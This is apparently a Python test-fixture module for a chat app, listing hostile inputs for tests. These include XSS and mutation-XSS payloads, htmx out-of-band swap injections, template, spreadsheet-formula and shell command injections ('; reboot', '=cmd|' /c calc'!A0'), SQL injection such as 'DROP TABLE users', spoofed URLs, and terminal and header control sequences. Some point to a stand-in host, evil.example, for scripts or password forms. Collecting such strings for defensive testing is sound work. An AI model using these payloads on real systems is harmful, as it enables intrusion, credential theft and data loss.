"""What somebody might type to break a page, a query, a log or a terminal. Written for these tests."""

import json
from collections.abc import Sequence
from functools import cache

from felchat.config import ROOT

# fmt: off
ATTRIBUTES = [
    '" onmouseover="pwned=1', "' autofocus onfocus='pwned=1", "` onclick=`pwned=1", '"><b>', "'><b>",
    "x onload=pwned=1", '"/><input name="username" value="mallory', '" formaction="https://evil.example" x="',
    "=\"'`<>&",
]
"""Out of an attribute, by each kind of quote."""
ELEMENTS = [
    "<script>pwned=1</script>", "<ScRiPt/src=//evil.example/x.js></sCrIpT >", "<<script>pwned=1//",
    "<img src=x onerror=pwned=1>", "<svg onload=pwned=1>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned=1>#x'>",
    "<math><mi xlink:href='javascript:pwned=1'>x", "<details open ontoggle=pwned=1>",
    "<input autofocus onfocus=pwned=1>", "<video><source onerror=pwned=1>",
    "<iframe srcdoc='<script>top.pwned=1</script>'>", "<object data=javascript:pwned=1>", "<embed src=/ping>",
    "<form action=//evil.example><input name=password>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;/ping>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<a href=javascript:pwned=1>x</a>",
    "<a href='jav&#x09;ascript:pwned=1'>x</a>", "<a href=' &#14; javascript:pwned=1'>x</a>",
    "<button popovertarget=menu>x</button>", "<b style=position:fixed;inset:0>x</b>",
    "<dialog open>x</dialog>", "<p id=messages>", "<marquee onstart=pwned=1>x",
    "&lt;img src=x onerror=pwned=1&gt;", "&#60;script&#62;pwned=1", "\\u003cscript\\u003epwned=1",
    "%3Cscript%3Epwned=1",
]
ENDS = [
    "</title><script>pwned=1</script>", "</textarea><script>pwned=1</script>",
    "</noscript><img src=x onerror=pwned=1>", "</template><script>pwned=1</script>",
    "</script><script>pwned=1</script>", "</style><script>pwned=1</script>",
    "</p></div></article></div><h1>x</h1>", "</body></html><p>", "<!--", "--><b>x", "<![CDATA[<b>]]>",
    "<?xml version='1.0'?>", "<textarea>", "<title>", "<plaintext>", "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwned=1>'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
]
"""Out of the element around it, and into another one by parsing it twice (mutation XSS)."""
HTMX = [
    "<i hx-get=/ping?hx hx-trigger=load></i>", "<i data-hx-get=/ping?hx data-hx-trigger=load></i>",
    "<i hx-on:click=pwned=1>x</i>", "<i data-hx-on:htmx:after:init=pwned=1>",
    "<i hx-post=/users/logout hx-trigger=load></i>", "<i hx-ws:connect=/ws/people></i>",
    "<i hx-vals='js:{x:pwned=1}' hx-get=/ping?hx hx-trigger=load></i>",
    "<hx-partial hx-target=#messages hx-swap=innerHTML>pwned</hx-partial>",
    "<template hx type=partial hx-target=#log>pwned</template>", "<hx-include></hx-include>",
    "<body hx-boost:inherited=true>", "<div id=messages hx-swap-oob=true>pwned</div>",
    "<div id=composer hx-swap-oob=delete></div>", "<div id=log hx-swap-oob=innerHTML></div>",
    "<div id=notice hx-swap-oob=innerHTML>pwned</div>", "<title hx-swap-oob=true>pwned</title>",
    '" hx-get="/ping?hx" hx-trigger="load" x="', "' hx-swap-oob='delete",
    '{"type": "message", "body": "swallowed", "nonce": "n"}', '{"content": "pwned", "target": "#log"}',
    "js:pwned=1",
]
"""What htmx would obey, out of band above all: the ids are those of our own pages."""
TEMPLATES = [
    "{{ 7 * 7 }}", "{{ config }}", "{% raw %}", "{# gone #}", "{% include 'base.html' %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "%(name)s", "%s%n%x", "{0.__class__}", "{name}", "$(reboot)", "`reboot`", "; reboot",
    "=1+1", "=cmd|' /c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")",
]
QUERIES = [
    "' OR '1'='1", '" OR ""="', "1; DROP TABLE users --", "') OR 1=1 --", "%", "_", "\\", "100%_\\%",
    "x' UNION SELECT password_hash FROM users --",
]
ADDRESSES = [
    "javascript:pwned=1", "java\nscript:pwned=1", "javascript://example.org/%0apwned=1",
    "data:text/html,<script>pwned=1</script>", "vbscript:pwned", "https://good.example@evil.example/",
    "http://e.org/\"onclick=pwned=1", "http://e.org/'><b>", "https://e.org/<script>",
    "https://\u202eelpmaxe.live/", "https://\u0430pple.com/", "//evil.example", "/\\evil.example",
    "http://[::1", "http://e.org:99999999/", "https://e.org/" + "x/" * 400,
]
DIRECTIONS = [
    "\u202egnp.exe", "\u2067\u202e\u2066never closed", "\u2069\u2069\u202dpopped", "\u05e9\u05dc\u05d5\u05dd",
    "\u0645\u0631\u062d\u0628\u0627 (1)", "a\u200bb\u200dc\u2060d\ufeff", "\U000e0041\U000e0042",
]
"""From right to left, by letters or by force, and what cannot be seen."""
FLOODS = [
    "Z" + "\u0301\u0323\u0489" * 300, "\ufdfd" * 50, "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 50,
    "W" * 999, "\u3000x\u3000", "\u2028x\u2029y",
]
CONTROLS = [
    "<script\x0bx>pwned=1//", "a\0b", "\x1b[2J\x1b[31mred", "\x9b31mred", "\x1b]0;title\x07",
    "a\rb\tc\vd\fe\x85f", "a\r\nSet-Cookie: pwned=1\r\n\r\n<b>", "\x7f\x08\x08", "\ufffe\uffff",
]
"""What a terminal obeys, and what ends a line of a log or a header. No message holds it, but line breaks."""
# fmt: on

TEXTS: Sequence[str] = [
    *ATTRIBUTES,
    *ELEMENTS,
    *ENDS,
    *HTMX,
    *TEMPLATES,
    *QUERIES,
    *ADDRESSES,
    *DIRECTIONS,
    *FLOODS,
]
EVERYTHING: Sequence[str] = [*TEXTS, *CONTROLS]
NO_IDS = ["\u0be8", "1_000", " 2", "+2", "2.0", "-2", "9" * 20, "9" * 5000]
"""What Python's `int` takes, or nearly, or what no database holds."""


@cache
def naughty() -> Sequence[str]:
    """The Big List of Naughty Strings, as npm has fetched it, but for the empty one."""
    file = ROOT / "node_modules" / "big-list-of-naughty-strings" / "blns.json"
    return [each for each in json.loads(file.read_text(encoding="utf-8")) if each.strip()]
